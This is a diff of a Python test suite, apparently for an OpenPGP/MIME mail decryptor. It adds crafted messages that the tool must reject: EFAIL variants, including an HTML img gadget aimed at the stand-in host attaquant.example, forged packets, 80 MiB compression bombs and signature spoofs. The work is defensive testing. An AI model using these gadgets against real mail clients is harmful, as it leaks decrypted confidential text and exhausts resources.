@@ -13,6 +13,7 @@ from pgp import gpg, make_key, stop_agent
 
 SECRET = "Texte confidentiel du dossier 4711."
 INSIDE = entity(SECRET + "\r\n")
+ALTERNATIVE = f"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"{BOUNDARY}\"\r\n".encode()
 MIXED = f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n".encode()
 
 
@@ -49,12 +50,41 @@ def armoured(forger, content=INSIDE):
     return armour(forger.encrypt(content))
 
 
+def packet_shapes(forger, seal):
+    """What else the packets of a message may be made into."""
+    keys, data = [whole for _tag, whole in split_packets(seal)]
+    inside = data[2:] if data[1] < 192 else data[3:]
+    middle = len(seal) - 60
+    rows = [
+        ("EFAIL: protection taken off", "no MDC", keys + packet(9, inside[1:-22])),
+        ("EFAIL: gadget in the middle", "damaged or changed", changed(seal, middle, 0x20)),
+        ("EFAIL: blocks exchanged", "damaged or changed", seal[:-92] + seal[-76:-60] + seal[-92:-76] + seal[-60:]),
+        ("data of version 2", "version", keys + packet(18, b"\2" + inside[1:])),
+        ("session key of version 6", "session-key packet", packet(1, b"\6" + keys[3:]) + data),
+        ("a marker before", "no place there", packet(10, b"PGP") + seal),
+        ("padding before", "no place there", packet(21, bytes(20)) + seal),
+        ("a signature in clear beside", "no place there", packet(2, bytes(30)) + seal),
+        ("for a passphrase alone", "no place there", packet(3, b"\4\7\0\10") + data),
+        ("session key alone", "in the middle", keys),
+        ("data twice", "something follows", seal + data),
+        ("no MDC within", "encrypted once more", forger.protected(forger.unprotected(literal(INSIDE)))),
+        ("bomb by bzip2", "opens to more than", forger.protected(compressed(literal(INSIDE + bytes(80 << 20)), 3))),
+        ("bomb by zip", "opens to more than", forger.protected(compressed(literal(INSIDE + bytes(80 << 20)), 1))),
+        ("compressed by what nobody knows", "not one protected message", forger.protected(packet(8, b"\x6e" + INSIDE))),
+        ("compressed and cut off", "ends in the middle", forger.protected(compressed(literal(INSIDE))[:-30])),
+        ("a key inside", "not one protected message", forger.protected(gpg(forger.home, "--export", forger.fingerprint).stdout)),
+    ]
+    rows = [(name, why, body(armour(content))) for name, why, content in rows]
+    return [*rows, ("not armoured", "not an armoured", body(seal.replace(b"\n", b"\r\n")))]
+
+
 def shapes(forger):
     """name, what the refusal says, header fields and body."""
     good, seal = armoured(forger), forger.encrypt(INSIDE)
     tail = good.replace(b"\r\n", b"\n")
     part = b"--" + BOUNDARY.encode()
     second = "Content-Type: application/octet-stream\r\n"
+    inner_head, within = HEAD.replace(BOUNDARY.encode(), b"interieur"), body(good).replace(BOUNDARY.encode(), b"interieur")
     plain = b"Content-Type: text/html\r\n\r\n<img src=\"http://attaquant.example/"
     rows = [
         ("no MDC", "no MDC", body(armour(forger.unprotected(literal(INSIDE))))),
@@ -89,6 +119,7 @@ def shapes(forger):
             SECRET, "From: agent@interieur.gov.example\r\nFrom: ministre@interieur.gov.example\r\n"
             "Content-Type: text/plain; protected-headers=\"v1\"\r\n")))),
     ]
+    rows += packet_shapes(forger, seal)
     rows = [(name, why, HEAD, content) for name, why, content in rows]
     rows += [
         ("mangled by Exchange", "multipart/mixed", MIXED, part + b"\r\nContent-Type: text/plain\r\n\r\n\r\n" + body(good)),
@@ -100,6 +131,17 @@ def shapes(forger):
         ("a list's footer", "multipart/mixed", MIXED.replace(BOUNDARY.encode(), b"liste"),
          b"--liste\r\n" + HEAD.replace(b"MIME-Version: 1.0\r\n", b"") + b"\r\n" + body(good) +
          b"--liste\r\nContent-Type: text/plain\r\n\r\nliste\r\n--liste--\r\n"),
+        ("EFAIL: in an alternative", "in part only", ALTERNATIVE,
+         part + b"\r\n" + plain + b"\r\n" + part + b"\r\nContent-Type: text/plain\r\n\r\n" + good + b"\r\n" + part + b"--\r\n"),
+        ("EFAIL: sealed whole within html", "in part only", ALTERNATIVE.replace(b"alternative", b"related"),
+         part + b"\r\n" + plain + b"\r\n" + part + b"\r\n" + inner_head + b"\r\n" + within + part + b"--\r\n"),
+        ("sealed whole in an attached message", "clear parts stand beside", ALTERNATIVE.replace(b"alternative", b"mixed").replace(b"=_", b"=-"),
+         (part + b"\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n").replace(b"=_", b"=-") + HEAD + b"\r\n" +
+         body(good) + (part + b"--\r\n").replace(b"=_", b"=-")),
+        ("armour in html", "in part only", b"Content-Type: text/html\r\n", b"<pre>\r\n" + good + b"</pre>\r\n"),
+        ("two types", "in part only", HEAD + b"Content-Type: text/html\r\n", body(good)),
+        ("another protocol", "in part only", HEAD.replace(b"application/pgp-encrypted", b"application/pkcs7-mime"), body(good)),
+        ("no boundary", "no boundary", HEAD.replace(b"boundary", b"x-boundary"), body(good)),
         ("encoded as a whole", "may not be encoded", HEAD + b"Content-Transfer-Encoding: base64\r\n", base64.encodebytes(body(good))),
     ]
     return rows
@@ -110,8 +152,13 @@ NAMES = ["no MDC", "changed on the way", "integrity check cut off", "a packet be
          "armour in armour", "armour cut off", "false checksum", "text before the armour", "text behind the armour",
          "not base64", "text behind the seal", "three parts", "no version part", "ciphertext called text", "not ended",
          "damaged base64", "no header section inside", "nothing inside", "another sender inside", "two senders inside",
+         "EFAIL: protection taken off", "EFAIL: gadget in the middle", "EFAIL: blocks exchanged", "data of version 2",
+         "session key of version 6", "a marker before", "padding before", "a signature in clear beside",
+         "for a passphrase alone", "session key alone", "data twice", "no MDC within", "bomb by bzip2", "bomb by zip",
+         "compressed by what nobody knows", "compressed and cut off", "a key inside", "not armoured",
          "mangled by Exchange", "EFAIL: html around", "EFAIL: nested", "inline, with clear text", "a list's footer",
-         "encoded as a whole"]
+         "EFAIL: in an alternative", "EFAIL: sealed whole within html", "sealed whole in an attached message",
+         "armour in html", "two types", "another protocol", "no boundary", "encoded as a whole"]
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -205,10 +252,10 @@ def spoofs(lab, stranger):
         "by the receiver's own key": ("another key", signed(lab, lab.env["GNUPGHOME_PEER"])),
         "over another text": ("signature is false", forger.protected(head + literal(entity("Un autre.\r\n")) + tail)),
         "twice": ("several signatures", forger.protected(head + head + text + tail + tail)),
-        "with SHA-1": ("", signed(lab, own, INSIDE, "--digest-algo", "SHA1", "--weak-digest", "MD5")),
+        "with SHA-1": ("weak digest", signed(lab, own, INSIDE, "--digest-algo", "SHA1", "--weak-digest", "MD5")),
         "in the future": ("future", signed(lab, own, INSIDE, "--faked-system-time", "20280101T000000")),
         "status in a file name": ("nobody signed", forger.protected(literal(INSIDE, spoof[:255]))),
-        "signature cut off": ("", forger.protected(head + text)),
+        "signature cut off": ("nobody signed", forger.protected(head + text)),
         "signature alone before": ("signature is false", forger.protected(tail + literal(entity("Un autre.\r\n")))),
         "clear text beside what is signed": ("several pieces", forger.protected(literal(entity("Un autre.\r\n")) + head + text + tail)),
     }
